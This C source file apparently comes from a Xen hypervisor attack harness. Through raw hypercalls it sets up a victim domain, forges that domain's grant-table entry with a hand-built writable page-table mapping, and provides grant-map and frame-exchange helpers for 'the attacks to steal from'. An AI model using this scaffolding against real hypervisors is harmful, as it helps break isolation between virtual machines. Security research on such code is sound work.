// SPDX-License-Identifier: GPL-2.0
/*
 * A domain for the attacks to steal from: made, given one page and its grants,
 * and destroyed, as a toolstack would. Built against Debian's libxen-dev, whose
 * headers do not mix with Linux's. The caller serialises.
 */
#include <linux/errno.h>
#include <linux/string.h>

#define __XEN_TOOLS__ 1
#include <public/domctl.h>
#include <public/grant_table.h>
#include <public/memory.h>
#include <public/xen.h>

#include "attack.h"

#define REF        8u     /* below are the toolstack's own */
#define PTE_RW_ALL 0x67ul /* present, writable, user, accessed, dirty */

static domid_t dom;
static uint64_t page;
static grant_handle_t handle;

static int domctl(struct xen_domctl *op, unsigned int cmd)
{
    op->cmd = cmd;
    op->interface_version = XEN_DOMCTL_INTERFACE_VERSION;
    op->domain = dom;
    return attack_hypercall(__HYPERVISOR_domctl, (unsigned long)op, 0, 0, 0);
}

static int create(void)
{
    struct xen_domctl op = {
        .u.createdomain = {
            .max_vcpus = 1,
            .max_evtchn_port = 1023,
            .max_grant_frames = 4,
            .max_maptrack_frames = 4,
            .grant_opts = XEN_DOMCTL_GRANT_version(1),
        },
    };
    int rc;

    dom = 0;
    rc = domctl(&op, XEN_DOMCTL_createdomain);
    dom = op.domain;
    if (rc)
        return rc;
    memset(&op, 0, sizeof(op));
    op.u.max_mem.max_memkb = 1024;
    return domctl(&op, XEN_DOMCTL_max_mem);
}

static int populate(void)
{
    xen_pfn_t frame = 0;
    struct xen_memory_reservation op = { .nr_extents = 1, .domid = dom };
    long rc;

    set_xen_guest_handle(op.extent_start, &frame);
    rc = attack_hypercall(__HYPERVISOR_memory_op, XENMEM_populate_physmap,
                          (unsigned long)&op, 0, 0);
    page = frame;
    return rc == 1 ? 0 : rc < 0 ? rc : -ENOMEM;
}

int domain_foreign_map(uint64_t pte_ma, uint64_t mfn)
{
    struct mmu_update u = { .ptr = pte_ma | MMU_NORMAL_PT_UPDATE,
                            .val = mfn << 12 | PTE_RW_ALL };
    unsigned int done = 0;

    return attack_hypercall(__HYPERVISOR_mmu_update, (unsigned long)&u, 1,
                            (unsigned long)&done, dom);
}

/* The domain's own table of grants says that Dom0 may have the page. */
static int grant(void)
{
    xen_pfn_t frame = 0;
    struct xen_mem_acquire_resource op = {
        .domid = dom,
        .type = XENMEM_resource_grant_table,
        .id = XENMEM_resource_grant_table_id_shared,
        .nr_frames = 1,
    };
    grant_entry_v1_t *const table = attack_window();
    long rc;

    set_xen_guest_handle(op.frame_list, &frame);
    rc = attack_hypercall(__HYPERVISOR_memory_op, XENMEM_acquire_resource,
                          (unsigned long)&op, 0, 0);
    if (rc)
        return rc;
    rc = domain_foreign_map(attack_pte_of(table), frame);
    if (rc)
        return rc;
    table[REF].domid = 0;
    table[REF].frame = page;
    __sync_synchronize();
    table[REF].flags = GTF_permit_access;
    return attack_window_restore();
}

int domain_create(uint64_t *mfn)
{
    int rc = create();

    if (!rc)
        rc = populate();
    if (!rc)
        rc = grant();
    *mfn = page;
    return rc;
}

int domain_kill(void)
{
    struct xen_domctl op = { 0 };

    return domctl(&op, XEN_DOMCTL_destroydomain);
}

int domain_grant_map(void *va, bool ro)
{
    struct gnttab_map_grant_ref op = {
        .host_addr = (unsigned long)va,
        .flags = GNTMAP_host_map | (ro ? GNTMAP_readonly : 0),
        .ref = REF,
        .dom = dom,
    };
    const int rc =
        attack_hypercall(__HYPERVISOR_grant_table_op, GNTTABOP_map_grant_ref,
                         (unsigned long)&op, 1, 0);

    handle = op.handle;
    return rc ? rc : op.status == GNTST_okay ? 0 : -EPERM;
}

int domain_grant_unmap(void *va)
{
    struct gnttab_unmap_grant_ref op = {
        .host_addr = (unsigned long)va,
        .handle = handle,
    };
    const int rc =
        attack_hypercall(__HYPERVISOR_grant_table_op, GNTTABOP_unmap_grant_ref,
                         (unsigned long)&op, 1, 0);

    return rc ? rc : op.status == GNTST_okay ? 0 : -EPERM;
}

int frame_exchange(uint64_t *mfn, uint64_t pfn)
{
    xen_pfn_t old = *mfn, new = pfn;
    struct xen_memory_exchange x = {
        .in = { .nr_extents = 1, .domid = DOMID_SELF },
        .out = { .nr_extents = 1, .domid = DOMID_SELF },
    };
    long rc;

    set_xen_guest_handle(x.in.extent_start, &old);
    set_xen_guest_handle(x.out.extent_start, &new);
    rc = attack_hypercall(__HYPERVISOR_memory_op, XENMEM_exchange,
                          (unsigned long)&x, 0, 0);
    if (rc)
        return rc;
    *mfn = new;
    return x.nr_exchanged == 1 ? 0 : -EIO;
}
